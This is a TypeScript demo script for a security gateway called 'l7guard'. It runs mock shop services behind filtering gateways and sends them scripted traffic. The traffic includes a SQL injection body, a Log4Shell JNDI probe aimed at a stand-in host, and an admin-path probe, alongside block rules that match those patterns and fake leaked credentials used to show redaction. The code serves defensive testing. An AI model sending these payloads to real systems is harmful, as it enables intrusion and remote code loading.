// `npm start` / `l7guard demo`: three services, each behind its own l7guard gateway running the real
// filter with its own identity, and a client loop that calls them with normal traffic and attacks and
// prints what each gateway did. Options: --duration SECONDS, --requests N, --interval MS, --quiet.
import { readFileSync, existsSync } from "node:fs";
import { request } from "node:http";
import { fileURLToPath } from "node:url";
import { execFileSync } from "node:child_process";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { randomBytes } from "node:crypto";
import { startGateway, type Gateway } from "../host/gateway.ts";
import { buildManager, type Manager } from "../manager/server.ts";
import { gatewayUrls, startService, type DemoService } from "./services.ts";

const root = fileURLToPath(new URL("..", import.meta.url));

// The policy every demo gateway runs: enforce mode, with rules that show blocking.
const POLICY = {
  schemaVersion: 1,
  mode: "enforce",
  rules: [
    { id: "no-admin-from-outside", action: "block", match: { pathPrefix: "/admin" } },
    { id: "no-sql-drop", action: "block", match: { methods: ["POST", "PUT"], bodyContains: "DROP TABLE" } },
    { id: "no-jndi", action: "block", match: { header: { name: "user-agent", contains: "${jndi:" } } },
    { id: "debug-header", action: "alert", match: { header: { name: "x-debug", equals: "1" } } },
  ],
  // PII: card numbers, emails and leaked credentials are masked in responses; an SSN sent to a service is
  // blocked; the rest alerts.
  actions: {
    default: { request: "alert", response: "alert" },
    pii: {
      card: { request: "alert", response: "redact" }, email: { request: "alert", response: "redact" }, ssn: { request: "block", response: "redact" },
      secret: { request: "alert", response: "redact" }, password: { request: "alert", response: "redact" },
    },
  },
};

interface Scenario { service: string; method: string; path: string; body?: unknown; headers?: Record<string, string>; label: string }

// Traffic, as data: normal calls (some fan out to other services) and attacks.
const SCENARIOS: Scenario[] = [
  { service: "frontend", method: "GET", path: "/products", label: "browse products" },
  { service: "frontend", method: "POST", path: "/checkout", body: { productId: 2, email: "alice@example.com", card: "4111 1111 1111 1111" }, label: "checkout (frontend -> orders -> payments)" },
  { service: "orders", method: "GET", path: "/orders/1001", label: "read an order" },
  { service: "orders", method: "POST", path: "/orders", body: { productId: "1; DROP TABLE orders" }, label: "SQL injection in the body" },
  { service: "frontend", method: "GET", path: "/admin/users", label: "admin panel probe" },
  { service: "payments", method: "GET", path: "/health", headers: { "user-agent": "${jndi:ldap://evil.example/a}" }, label: "Log4Shell probe in User-Agent" },
  { service: "orders", method: "GET", path: "/orders/1002", headers: { "x-debug": "1" }, label: "debug header (alert only)" },
  { service: "payments", method: "POST", path: "/charge", body: { amount: 20, ssn: "123-45-6789" }, label: "SSN sent to payments (blocked)" },
  { service: "payments", method: "GET", path: "/config", label: "a config endpoint leaks credentials (redacted)" },
];

const COLLECTOR_CLUSTER = "outbound|9080||l7guard-manager.l7guard-system.svc.cluster.local";

export interface Demo {
  services: DemoService[]; gateways: Gateway[]; manager: Manager; managerUrl: string; apiToken: string;
  /** Where the manager's store is (a temporary directory unless the caller gave one). */
  dataDir: string;
  send(s: Scenario): Promise<{ status: number; headers: Record<string, string | string[] | undefined>; body: string; ms: number }>;
  /** Closes the gateways (each flushes its last telemetry window); once. */
  closeGateways(): Promise<void>;
  stop(): Promise<void>;
}

// Starts the manager, the services and their gateways (each gateway reports telemetry to the manager).
export async function startDemo(opts: { dataDir?: string; quiet?: boolean; flushIntervalMs?: number; log?: (line: string) => void } = {}): Promise<Demo> {
  const log = opts.log ?? ((line: string) => process.stdout.write(`${line}\n`));
  const wasmPath = `${root}build/l7guard.wasm`;
  if (!existsSync(wasmPath)) execFileSync(process.execPath, [`${root}scripts/build.mjs`, "--only", "l7guard"], { stdio: "inherit" });
  const wasm = readFileSync(wasmPath);
  const apiToken = randomBytes(18).toString("base64url");
  const collectorToken = randomBytes(18).toString("base64url");
  // Without a data directory the demo's store lives in a temporary one, removed when the demo stops.
  const ownDataDir = opts.dataDir === undefined;
  const dataDir = opts.dataDir ?? mkdtempSync(join(tmpdir(), "l7guard-demo-"));
  const manager = await buildManager({ dataDir, apiTokens: [{ token: apiToken, role: "admin" }], collectorTokens: [collectorToken] });
  const managerUrl = await manager.app.listen({ host: "127.0.0.1", port: 0 });
  const policy = { ...POLICY, collector: { cluster: COLLECTOR_CLUSTER, authority: "l7guard-manager", token: collectorToken, flushIntervalMs: opts.flushIntervalMs ?? 2000 } };
  const services = await startServices();
  const gateways: Gateway[] = [];
  for (const s of services) {
    const gw = await startGateway({
      listen: { host: "127.0.0.1", port: 0 }, upstream: s.url, wasm, config: JSON.stringify(policy),
      identity: { namespace: s.namespace, workload: s.name, app: s.name, version: "v1" }, name: s.name,
      clusters: { [COLLECTOR_CLUSTER]: managerUrl },
      log: (line) => { if (!opts.quiet) log(`  ${line}`); },
    });
    gateways.push(gw);
    gatewayUrls.set(s.name, gw.url);
  }
  let gatewaysClosed = false;
  const closeGateways = async () => {
    if (gatewaysClosed) return;
    gatewaysClosed = true;
    for (const gw of gateways) await gw.close(); // flushes each filter's last telemetry window
  };
  return {
    services, gateways, manager, managerUrl, apiToken, dataDir, send, closeGateways,
    async stop() {
      await closeGateways();
      for (const s of services) { s.server.close(); s.server.closeAllConnections(); }
      await manager.close();
      if (ownDataDir) rmSync(dataDir, { recursive: true, force: true });
    },
  };
}

async function api(demo: Demo, path: string): Promise<any> {
  const r = await fetch(`${demo.managerUrl}${path}`, { headers: { authorization: `Bearer ${demo.apiToken}` } });
  return r.json();
}

function parseArgs(argv: string[]): { duration?: number; requests?: number; interval: number; quiet: boolean } {
  const out = { duration: undefined as number | undefined, requests: undefined as number | undefined, interval: 700, quiet: false };
  for (let i = 0; i < argv.length; i++) {
    const v = argv[i + 1];
    if (argv[i] === "--duration") { out.duration = Number(v); i++; }
    else if (argv[i] === "--requests") { out.requests = Number(v); i++; }
    else if (argv[i] === "--interval") { out.interval = Number(v); i++; }
    else if (argv[i] === "--quiet") out.quiet = true;
    else throw new Error(`unknown option ${argv[i]} (use --duration SECONDS, --requests N, --interval MS, --quiet)`);
  }
  return out;
}

function send(s: Scenario): Promise<{ status: number; headers: Record<string, string | string[] | undefined>; body: string; ms: number }> {
  return new Promise((resolve, reject) => {
    const started = performance.now();
    const data = s.body === undefined ? undefined : Buffer.from(JSON.stringify(s.body));
    const req = request(new URL(s.path, gatewayUrls.get(s.service)), {
      method: s.method, headers: { ...(s.headers ?? {}), ...(data ? { "content-type": "application/json", "content-length": String(data.length) } : {}) },
    }, (res) => {
      const chunks: Buffer[] = [];
      res.on("data", (c) => chunks.push(c));
      res.on("end", () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks).toString(), ms: performance.now() - started }));
    });
    req.on("error", reject);
    req.end(data);
  });
}

async function startServices(): Promise<DemoService[]> {
  return [
    await startService("shop", "frontend", {
      "GET /products": () => ({ status: 200, body: [{ id: 1, name: "lamp", price: 20 }, { id: 2, name: "desk", price: 150 }] }),
      "POST /checkout": async (req, ctx) => {
        const order = await ctx.call("orders", "POST", "/orders", { productId: req.json?.productId, customer: { email: req.json?.email }, card: req.json?.card });
        return { status: order.status, body: { checkout: order.status < 300 ? "ok" : "failed", order: order.body } };
      },
    }),
    await startService("shop", "orders", {
      "GET /orders/{id}": (req) => ({ status: 200, body: { id: Number(req.path.split("/")[2]), status: "shipped", customer: { email: "bob@example.com" }, card: "4111 1111 1111 1111" } }),
      "POST /orders": async (req, ctx) => {
        const charge = await ctx.call("payments", "POST", "/charge", { amount: 150, card: req.json?.card });
        return { status: charge.status < 300 ? 201 : 502, body: { id: 1000 + Math.floor(Math.random() * 1000), payment: charge.body } };
      },
    }),
    await startService("shop", "payments", {
      "POST /charge": () => ({ status: 200, body: { status: "captured", reference: `ch_${Math.random().toString(36).slice(2, 10)}` } }),
      "GET /health": () => ({ status: 200, body: { ok: true } }),
      // A debug endpoint that returns its configuration: a connection string and a payment provider's key.
      "GET /config": () => ({ status: 200, body: { database: "postgres://payments:S3cr3tPa55@db.shop.svc:5432/payments", stripeKey: "sk_live_51Hq7Jd2xyZa1bC9dEk3R9xqPzL2mWvT8sYb4N", region: "eu-west-1" } }),
    }),
  ];

}

export async function main(argv: string[]): Promise<void> {
  const args = parseArgs(argv);
  const demo = await startDemo({ quiet: args.quiet, flushIntervalMs: 1000 });
  const { services, gateways } = demo;
  console.log(`manager        ${demo.managerUrl}  (API token: ${demo.apiToken})`);
  for (let i = 0; i < services.length; i++) {
    const s = services[i];
    console.log(`${s.namespace}/${s.name.padEnd(9)} service ${s.url}  gateway ${gateways[i].url}  admin ${gateways[i].adminUrl}`);
  }
  console.log(`\nl7guard demo: ${services.length} services, each behind its own gateway (policy: enforce, ${POLICY.rules.length} rules), reporting to the manager. Ctrl-C to stop.`);
  console.log(`  try: curl -H 'authorization: Bearer ${demo.apiToken}' ${demo.managerUrl}/api/v1/graph\n`);

  let stopping = false;
  const stop = async () => {
    if (stopping) return;
    stopping = true;
    await demo.stop();
  };
  process.once("SIGINT", () => { void stop().then(() => process.exit(0)); });
  process.once("SIGTERM", () => { void stop().then(() => process.exit(0)); });

  const deadline = args.duration !== undefined ? Date.now() + args.duration * 1000 : Infinity;
  const limit = args.requests ?? Infinity;
  const tally = { total: 0, passed: 0, blocked: 0, alerted: 0, errors: 0 };
  for (let i = 0; i < limit && Date.now() < deadline && !stopping; i++) {
    const s = SCENARIOS[i % SCENARIOS.length];
    try {
      const r = await demo.send(s);
      const verdict = String(r.headers["x-l7guard"] ?? "none");
      tally.total++;
      if (verdict === "block") tally.blocked++; else if (verdict === "alert") tally.alerted++; else tally.passed++;
      let detail = "";
      if (verdict === "block") { try { const b = JSON.parse(r.body); detail = ` rule=${b.rule ?? b.class} requestId=${b.requestId}`; } catch { /* not JSON */ } }
      if (verdict === "block") { try { const b = JSON.parse(r.body); if (b.class === "pii") detail = ` pii=${b.type} requestId=${b.requestId}`; } catch { /* not JSON */ } }
      console.log(`${s.method.padEnd(4)} ${s.service}${s.path.padEnd(14)} -> ${r.status} ${verdict.padEnd(5)}${detail}  (${r.ms.toFixed(1)} ms)  ${s.label}`);
      if ((s.path.startsWith("/orders/") || s.path === "/config") && r.status === 200) console.log(`     response as the client sees it: ${r.body}`);
    } catch (e) {
      tally.errors++;
      console.log(`${s.method} ${s.service}${s.path} -> error ${(e as Error).message}`);
    }
    if (i + 1 < limit && Date.now() < deadline) await new Promise((r) => setTimeout(r, args.interval));
  }
  const blocked = gateways.map((g) => `${g.host.stats.value("l7guard_requests_blocked_total") ?? 0n}`).join("/");
  console.log(`\ndone: ${tally.total} requests, ${tally.passed} passed, ${tally.blocked} blocked, ${tally.alerted} alerted, ${tally.errors} errors; blocked per gateway (frontend/orders/payments): ${blocked}`);
  // Closing the gateways flushes their telemetry; then show what the manager learned.
  await demo.closeGateways();
  const graph = await api(demo, "/api/v1/graph");
  const endpoints = await api(demo, "/api/v1/endpoints");
  const events = await api(demo, "/api/v1/events?limit=5");
  console.log(`\nservice graph (from the manager):`);
  for (const e of graph.edges) console.log(`  ${e.source} -> ${e.destination}: ${e.count} requests, ${e.blocked} blocked, avg ${e.latencyMsAvg.toFixed(1)} ms`);
  console.log(`API inventory:`);
  for (const e of endpoints.endpoints) console.log(`  ${e.service.padEnd(14)} ${e.method.padEnd(5)} ${e.pathTemplate}  (${e.count})`);
  const pii = await api(demo, "/api/v1/pii");
  console.log(`PII data flows:`);
  for (const f of pii.flows) console.log(`  ${f.type.padEnd(6)} ${f.source} -> ${f.destination} (${f.direction}, ${f.count})`);
  console.log(`latest events:`);
  for (const e of events.events) console.log(`  ${e.action} ${e.category}:${e.type} ${e.method ?? ""} ${e.pathTemplate ?? ""} from ${e.source}`);
  await stop();
}
